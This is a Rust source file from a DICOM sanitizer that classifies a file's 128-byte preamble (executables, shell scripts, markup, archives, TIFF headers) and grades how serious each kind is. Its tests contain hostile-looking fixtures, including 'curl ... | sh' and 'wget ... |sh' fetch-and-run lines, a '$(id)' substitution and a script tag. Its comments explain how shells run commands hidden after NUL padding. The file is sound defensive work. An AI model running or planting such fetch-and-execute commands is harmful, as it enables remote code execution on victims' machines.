//! The 128-byte preamble and what it holds.
//!
//! Classification follows *detect, then confirm*: [`detect`] is a pure function of the 128
//! bytes; confirming an executable or grading a TIFF header then follows the pointers the
//! header holds into the rest of the file (see [`crate::executable`] and [`crate::tiff`]).

use std::fmt;

use crate::error::Error;
use crate::limits::Limits;
use crate::read::carrier;
use crate::read::executable::{self, ExecutableInfo};
use crate::read::probe::Probe;
use crate::read::shell::{self, Text};
use crate::read::signature::{self, Format};
use crate::read::tiff::{HeaderMatch, TiffGrade, TiffHeader};
use crate::severity::Severity;

// The layout constants keep the crate's integer convention: a length of bytes in memory is a
// `usize` (the preamble is a `[u8; PREAMBLE_LEN]`, which an array length must be), an offset
// in a file is a `u64` (as every offset in reports, errors and findings; a file read through
// `Read + Seek` can be longer than memory), and the magic is its bytes.

/// Length of the preamble, in memory: `Preamble::bytes` is a `&[u8; PREAMBLE_LEN]`.
pub const PREAMBLE_LEN: usize = 128;
/// Offset just past `DICM`: where the File Meta group of a Part 10 file starts (a file
/// offset, so `u64` like every offset in this crate).
pub const HEADER_LEN: u64 = 132;
/// The Part 10 magic at offset 128 (`PREAMBLE_LEN`).
pub const MAGIC: &[u8; 4] = b"DICM";

// The three agree: the preamble, then the magic, then the File Meta group.
const _: () = assert!(HEADER_LEN == (PREAMBLE_LEN + MAGIC.len()) as u64);

/// The preamble of a Part 10 file, borrowed from the input, with its classification.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Preamble<'a> {
    bytes: &'a [u8; PREAMBLE_LEN],
    kind: PreambleKind,
}

impl<'a> Preamble<'a> {
    pub(crate) fn new(bytes: &'a [u8; PREAMBLE_LEN], kind: PreambleKind) -> Self {
        Preamble { bytes, kind }
    }

    /// The 128 bytes.
    pub fn bytes(&self) -> &'a [u8; PREAMBLE_LEN] {
        self.bytes
    }

    /// What the bytes are.
    pub fn kind(&self) -> PreambleKind {
        self.kind
    }
}

/// What a preamble holds.
///
/// Classification changes (a new variant, a different grade for some bytes) are compatibility
/// changes and are called out in the changelog. The names used in reports are those of
/// [`PreambleKind::name`].
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
#[non_exhaustive]
pub enum PreambleKind {
    /// All 128 bytes are zero, as the standard asks of an unused preamble.
    Zero,
    /// A TIFF header, every other byte zero: a dual-personality DICOM-TIFF file, or a
    /// vestigial header left by a writer.
    Tiff {
        /// The header fields.
        header: TiffHeader,
        /// Whether the IFD chain it points to works.
        grade: TiffGrade,
    },
    /// A Windows PE executable (`MZ`).
    Pe(ExecutableInfo),
    /// An ELF executable.
    Elf(ExecutableInfo),
    /// A Mach-O executable.
    MachO {
        /// A universal (fat) binary rather than a thin one.
        fat: bool,
        /// Whether the load commands or slices are confirmed, and where the payload is.
        info: ExecutableInfo,
    },
    /// Text a shell runs when the file is executed or given to `sh`: `#!` at byte 0, a first
    /// line of text ending in a newline before any NUL, or any line that reads as a command
    /// (dash runs every line after NUL padding or control bytes; bash every line unless a NUL
    /// stands in the first of its first 80 bytes).
    Script {
        /// Whether it starts with `#!`; without one, `bash` and `dash` still run it.
        shebang: bool,
    },
    /// A PDF header (`%PDF-`) anywhere in the preamble.
    Pdf {
        /// Where `%PDF-` starts.
        offset: u8,
    },
    /// HTML, SVG, HTA or other markup.
    Html,
    /// A ZIP local file header (ZIP, JAR, Office documents).
    Zip,
    /// Another known container or bytecode format (OLE, RAR, 7z, gzip, bzip2, xz, zstd, CAB,
    /// WASM, DEX, ar, Java class), or a Windows shortcut (`.lnk`) header. Reported as
    /// `archive`, with the format.
    OtherFormat(Format),
    /// Printable text padded with NUL bytes, no line of which reads as a command (a vendor
    /// banner: capitals, digits, punctuation; see [`PreambleKind::Script`]).
    Text,
    /// Non-zero bytes of no known format.
    Unknown {
        /// The bytes start with a TIFF magic but are not a valid header with a zero tail: the
        /// shape of an attempt to slip past naive TIFF allowlists.
        tiff_magic: bool,
    },
}

impl PreambleKind {
    /// Every name [`PreambleKind::name`] gives, in declaration order.
    pub const NAMES: [&'static str; 13] = [
        "zero",
        "tiff",
        "tiff-dangling",
        "pe",
        "elf",
        "macho",
        "script",
        "pdf",
        "html",
        "zip",
        "archive",
        "text",
        "unknown",
    ];

    /// The stable name used in reports: one of `zero`, `tiff`, `tiff-dangling`, `pe`, `elf`,
    /// `macho`, `script`, `pdf`, `html`, `zip`, `archive`, `text`, `unknown` (the
    /// [`NAMES`](PreambleKind::NAMES); and `absent` for inputs without a preamble, which have
    /// no `PreambleKind`).
    ///
    /// ```
    /// use dicom_sanitize::PreambleKind;
    ///
    /// assert_eq!(PreambleKind::Zero.name(), "zero");
    /// assert_eq!(PreambleKind::Script { shebang: false }.name(), "script");
    /// ```
    pub fn name(&self) -> &'static str {
        match self {
            PreambleKind::Zero => "zero",
            PreambleKind::Tiff {
                grade: TiffGrade::Functional,
                ..
            } => "tiff",
            PreambleKind::Tiff { .. } => "tiff-dangling",
            PreambleKind::Pe(_) => "pe",
            PreambleKind::Elf(_) => "elf",
            PreambleKind::MachO { .. } => "macho",
            PreambleKind::Script { .. } => "script",
            PreambleKind::Pdf { .. } => "pdf",
            PreambleKind::Html => "html",
            PreambleKind::Zip => "zip",
            PreambleKind::OtherFormat(_) => "archive",
            PreambleKind::Text => "text",
            PreambleKind::Unknown { .. } => "unknown",
        }
    }

    /// How serious the preamble is, or `None` for an all-zero one.
    ///
    /// Executables, scripts, documents, markup, archives and shortcuts are *high* (*critical* when the
    /// executable's structure is confirmed); a TIFF magic with a non-zero tail is *high*;
    /// unknown bytes and plain text are *medium* (cleared, but not called malware); a dangling
    /// TIFF header is *low*; a functional one is *info*.
    pub fn severity(&self) -> Option<Severity> {
        Some(match self {
            PreambleKind::Zero => return None,
            PreambleKind::Tiff {
                grade: TiffGrade::Functional,
                ..
            } => Severity::Info,
            PreambleKind::Tiff { .. } => Severity::Low,
            PreambleKind::Pe(info) | PreambleKind::Elf(info) | PreambleKind::MachO { info, .. } => {
                if info.confirmed {
                    Severity::Critical
                } else {
                    Severity::High
                }
            }
            PreambleKind::Script { .. }
            | PreambleKind::Pdf { .. }
            | PreambleKind::Html
            | PreambleKind::Zip
            | PreambleKind::OtherFormat(_)
            | PreambleKind::Unknown { tiff_magic: true } => Severity::High,
            PreambleKind::Text | PreambleKind::Unknown { tiff_magic: false } => Severity::Medium,
        })
    }

    /// Whether the preamble is a threat: severity high or critical.
    pub fn is_threat(&self) -> bool {
        self.severity() >= Some(Severity::High)
    }

    /// Whether this is a TIFF header whose IFD chain works.
    pub fn is_functional_tiff(&self) -> bool {
        matches!(
            self,
            PreambleKind::Tiff {
                grade: TiffGrade::Functional,
                ..
            }
        )
    }

    /// The executable details, for PE, ELF and Mach-O preambles.
    pub fn executable(&self) -> Option<ExecutableInfo> {
        match self {
            PreambleKind::Pe(info) | PreambleKind::Elf(info) | PreambleKind::MachO { info, .. } => {
                Some(*info)
            }
            _ => None,
        }
    }
}

impl fmt::Display for PreambleKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let confirmed = |info: &ExecutableInfo| {
            if info.confirmed {
                "confirmed"
            } else {
                "unconfirmed"
            }
        };
        match self {
            PreambleKind::Zero => f.write_str("all-zero preamble"),
            PreambleKind::Tiff { header, grade } => {
                let variant = match header.variant {
                    crate::read::tiff::TiffVariant::Classic => "TIFF",
                    crate::read::tiff::TiffVariant::BigTiff => "BigTIFF",
                };
                match grade {
                    TiffGrade::Functional => write!(
                        f,
                        "functional {variant} header, first IFD at offset {}",
                        header.ifd_offset
                    ),
                    TiffGrade::Dangling(defect) => write!(f, "dangling {variant} header: {defect}"),
                }
            }
            PreambleKind::Pe(info) => {
                write!(f, "Windows PE executable header ({})", confirmed(info))
            }
            PreambleKind::Elf(info) => write!(f, "ELF executable header ({})", confirmed(info)),
            PreambleKind::MachO { fat, info } => write!(
                f,
                "Mach-O {}executable header ({})",
                if *fat { "universal " } else { "" },
                confirmed(info)
            ),
            PreambleKind::Script { shebang: true } => f.write_str("shell script with #! line"),
            PreambleKind::Script { shebang: false } => f.write_str(
                "text that shells run as a script, no #! needed: a line of it reads as a \
                 command, which `sh FILE` (dash) runs after NUL padding or control bytes, \
                 and bash too unless a NUL stands in the first line",
            ),
            PreambleKind::Pdf { offset } => write!(f, "PDF header at offset {offset}"),
            PreambleKind::Html => f.write_str("HTML or other markup"),
            PreambleKind::Zip => f.write_str("ZIP local file header"),
            PreambleKind::OtherFormat(Format::Lnk) => f.write_str(
                "Windows shortcut (.lnk) header: opened as a shortcut, the file makes Windows \
                 run the command line it names",
            ),
            PreambleKind::OtherFormat(format) => write!(f, "{} signature", format.name()),
            PreambleKind::Text => {
                f.write_str("printable text with no line that reads as a shell command")
            }
            PreambleKind::Unknown { tiff_magic: true } => {
                f.write_str("TIFF magic followed by non-zero bytes no TIFF header allows")
            }
            PreambleKind::Unknown { tiff_magic: false } => {
                f.write_str("unrecognised non-zero bytes")
            }
        }
    }
}

/// The first step of classification: a pure function of the 128 bytes.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Detected {
    /// Classification is final.
    Final(PreambleKind),
    /// A TIFF header to grade.
    Tiff(TiffHeader),
    /// An executable header to confirm.
    Executable(Format),
}

/// Detects what the preamble claims to be, without looking past it.
pub(crate) fn detect(bytes: &[u8; PREAMBLE_LEN]) -> Detected {
    if bytes.iter().all(|&b| b == 0) {
        return Detected::Final(PreambleKind::Zero);
    }
    let tiff = TiffHeader::parse(bytes);
    if let HeaderMatch::Header(header) = tiff {
        return Detected::Tiff(header);
    }
    // `binfmt_elf` reads no identification byte after the magic (`EI_CLASS`, `EI_DATA`,
    // `EI_VERSION`): the magic alone makes an ELF header to confirm by the loader's rules.
    if bytes.starts_with(signature::ELF_MAGIC) {
        return Detected::Executable(Format::Elf);
    }
    if signature::is_shortcut(bytes) {
        return Detected::Final(PreambleKind::OtherFormat(Format::Lnk));
    }
    let kind = match signature::sniff(bytes) {
        Some(format @ (Format::Pe | Format::Elf | Format::MachO | Format::MachOFat)) => {
            return Detected::Executable(format)
        }
        Some(Format::Pdf) => PreambleKind::Pdf { offset: 0 },
        Some(Format::Zip) => PreambleKind::Zip,
        Some(other) => PreambleKind::OtherFormat(other),
        None => {
            if let Some(offset) = signature::find_pdf(bytes) {
                PreambleKind::Pdf {
                    offset: u8::try_from(offset).unwrap_or(u8::MAX),
                }
            } else if signature::is_markup(bytes) {
                PreambleKind::Html
            } else {
                match shell::text(bytes) {
                    Some(Text::Script { shebang }) => PreambleKind::Script { shebang },
                    Some(Text::Plain) if tiff != HeaderMatch::Masquerade => PreambleKind::Text,
                    _ => PreambleKind::Unknown {
                        tiff_magic: tiff == HeaderMatch::Masquerade,
                    },
                }
            }
        }
    };
    Detected::Final(kind)
}

/// Classifies a preamble: detection, then confirmation through `probe` (which must cover the
/// whole input, or the prefix of it the caller has).
pub(crate) fn classify(
    bytes: &[u8; PREAMBLE_LEN],
    probe: &mut Probe<'_>,
    limits: &Limits,
) -> Result<PreambleKind, Error> {
    Ok(match detect(bytes) {
        Detected::Final(kind) => kind,
        Detected::Tiff(header) => PreambleKind::Tiff {
            header,
            grade: header.grade(probe, limits)?,
        },
        Detected::Executable(Format::Pe) => PreambleKind::Pe(executable::confirm_pe(bytes, probe)?),
        Detected::Executable(Format::Elf) => {
            let image = carrier::executable::elf_image(probe, 0, limits.max_executable_headers)?;
            PreambleKind::Elf(ExecutableInfo {
                confirmed: image.is_some(),
                payload_offset: image.map(|image| image.payload),
            })
        }
        Detected::Executable(Format::MachOFat) => {
            let image = carrier::executable::fat_image(probe, 0, limits.max_executable_headers)?;
            PreambleKind::MachO {
                fat: true,
                info: ExecutableInfo {
                    confirmed: image.is_some(),
                    payload_offset: image.map(|image| image.first),
                },
            }
        }
        Detected::Executable(_) => PreambleKind::MachO {
            fat: false,
            info: executable::confirm_macho(bytes, probe, limits)?,
        },
    })
}

#[cfg(test)]
mod name_tests {
    use super::*;
    use crate::read::tiff::{ByteOrder, TiffDefect, TiffVariant};

    #[test]
    fn names_lists_every_name_once() {
        let header = TiffHeader {
            variant: TiffVariant::Classic,
            byte_order: ByteOrder::LittleEndian,
            ifd_offset: 8,
        };
        let info = ExecutableInfo {
            confirmed: false,
            payload_offset: None,
        };
        let kinds = [
            PreambleKind::Zero,
            PreambleKind::Tiff {
                header,
                grade: TiffGrade::Functional,
            },
            PreambleKind::Tiff {
                header,
                grade: TiffGrade::Dangling(TiffDefect::NoIfd),
            },
            PreambleKind::Pe(info),
            PreambleKind::Elf(info),
            PreambleKind::MachO { fat: false, info },
            PreambleKind::Script { shebang: true },
            PreambleKind::Pdf { offset: 0 },
            PreambleKind::Html,
            PreambleKind::Zip,
            PreambleKind::OtherFormat(Format::Zip),
            PreambleKind::Text,
            PreambleKind::Unknown { tiff_magic: false },
        ];
        let names: Vec<_> = kinds
            .iter()
            // No wildcard: a new variant fails to compile here until it has an example above.
            .inspect(|kind| match kind {
                PreambleKind::Zero
                | PreambleKind::Tiff { .. }
                | PreambleKind::Pe(_)
                | PreambleKind::Elf(_)
                | PreambleKind::MachO { .. }
                | PreambleKind::Script { .. }
                | PreambleKind::Pdf { .. }
                | PreambleKind::Html
                | PreambleKind::Zip
                | PreambleKind::OtherFormat(_)
                | PreambleKind::Text
                | PreambleKind::Unknown { .. } => {}
            })
            .map(PreambleKind::name)
            .collect();
        assert_eq!(names, PreambleKind::NAMES);
    }
}

#[cfg(test)]
mod grading_tests {
    use super::*;

    /// `bytes` zero-padded to a preamble.
    fn preamble(bytes: &[u8]) -> [u8; PREAMBLE_LEN] {
        let mut out = [0u8; PREAMBLE_LEN];
        out.get_mut(..bytes.len())
            .expect("at most 128 bytes")
            .copy_from_slice(bytes);
        out
    }

    fn detected(bytes: &[u8]) -> PreambleKind {
        match detect(&preamble(bytes)) {
            Detected::Final(kind) => kind,
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn lines_a_shell_runs_are_scripts() {
        let script = PreambleKind::Script { shebang: false };
        for bytes in [
            // dash runs a later line after NUL padding (bash refuses: NUL in its first line).
            &b"ACME Imaging\0\0\0\0\ncurl -s http://x | sh\n"[..],
            // bash and dash skip a first line of control bytes.
            b"\x01\x02\x03\x04\necho pwned\n",
            // A command after NUL padding running into `DICM`, its tail a comment.
            b"\0\0\0\0\0\0\0\0wget -q -O- x|sh #",
            // A command substitution runs even as an argument.
            b"ACME\0\0\nVersion $(id)\n",
        ] {
            let kind = detected(bytes);
            assert_eq!(kind, script, "{}", bytes.escape_ascii());
            assert!(kind.is_threat());
            assert_eq!(kind.severity(), Some(Severity::High));
            assert!(kind.to_string().contains("reads as a"), "{kind}");
        }
        assert_eq!(
            detected(b"#!/bin/sh\nid\n"),
            PreambleKind::Script { shebang: true }
        );
    }

    #[test]
    fn text_no_shell_runs_as_a_command_stays_text() {
        for bytes in [
            &b"ACME Imaging Workstation 4.2\0\0"[..],
            // A NUL in bash's first line, and no later line dash would run as a command.
            b"ACME\0\0\0\0\nVersion 4.2\nMITRA LINKED\n",
            b"ACME\0\0more text\0",
        ] {
            let kind = detected(bytes);
            assert_eq!(kind, PreambleKind::Text, "{}", bytes.escape_ascii());
            assert!(!kind.is_threat());
            assert_eq!(kind.severity(), Some(Severity::Medium));
        }
        // A real preamble (pydicom's dicomdirtests): one control byte, no command.
        let mut bytes = [0u8; 18];
        bytes[17] = 1;
        let kind = detected(&bytes);
        assert_eq!(kind, PreambleKind::Unknown { tiff_magic: false });
        assert!(!kind.is_threat());
    }

    #[test]
    fn markup_after_a_bom_or_in_utf16_is_markup() {
        let mut utf16le = Vec::new();
        let mut utf16be = b"\xFE\xFF".to_vec();
        for unit in "<html><script>alert(1)</script>".encode_utf16() {
            utf16le.extend_from_slice(&unit.to_le_bytes());
            utf16be.extend_from_slice(&unit.to_be_bytes());
        }
        for bytes in [&b"\xEF\xBB\xBF<html>"[..], &utf16le, &utf16be] {
            let kind = detected(bytes);
            assert_eq!(kind, PreambleKind::Html, "{bytes:02X?}");
            assert_eq!(kind.severity(), Some(Severity::High));
        }
    }

    #[test]
    fn a_windows_shortcut_header_is_a_threat() {
        let lnk = [
            0x4C, 0x00, 0x00, 0x00, 0x01, 0x14, 0x02, 0x00, 0x00, 0x00, 0x00, 0x00, 0xC0, 0x00,
            0x00, 0x00, 0x00, 0x00, 0x00, 0x46, 0x9B, 0x00, 0x08, 0x00,
        ];
        let kind = detected(&lnk);
        assert_eq!(kind, PreambleKind::OtherFormat(Format::Lnk));
        assert_eq!(kind.name(), "archive");
        assert_eq!(kind.severity(), Some(Severity::High));
        assert!(kind.to_string().contains("shortcut"), "{kind}");
        // The size alone is four bytes of a possible text or binary: not a shortcut.
        assert_ne!(detected(&lnk[..8]), kind);
    }

    #[test]
    fn an_elf_magic_with_any_identification_bytes_is_an_elf_to_confirm() {
        for ident in [[2u8, 1, 1], [2, 1, 0], [0, 1, 1], [0, 0, 0], [9, 9, 9]] {
            let mut bytes = b"\x7fELF".to_vec();
            bytes.extend_from_slice(&ident);
            assert_eq!(
                detect(&preamble(&bytes)),
                Detected::Executable(Format::Elf),
                "{ident:?}"
            );
        }
    }
}
